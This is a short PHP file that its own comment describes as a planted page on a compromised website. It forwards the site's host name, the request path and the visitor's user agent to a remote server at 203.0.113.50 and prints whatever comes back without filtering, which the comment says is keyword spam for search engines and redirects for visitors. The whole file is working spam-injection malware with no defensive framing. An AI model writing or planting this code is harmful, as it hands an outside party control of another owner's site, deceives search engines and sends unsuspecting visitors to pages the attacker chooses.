<?php
// A planted page: it asks a remote server what to show for this site and this address, and
// prints whatever comes back (keyword spam for the engines, redirects for visitors).
$tpl = 'http://203.0.113.50/tpl/index.php?host=' . urlencode($_SERVER['HTTP_HOST']) . '&uri=' . urlencode($_SERVER['REQUEST_URI']);
$ch = curl_init($tpl);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
curl_setopt($ch, CURLOPT_USERAGENT, isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '');
curl_setopt($ch, CURLOPT_TIMEOUT, 8);
$page = curl_exec($ch);
curl_close($ch);
header('Content-Type: text/html; charset=utf-8');
echo $page;
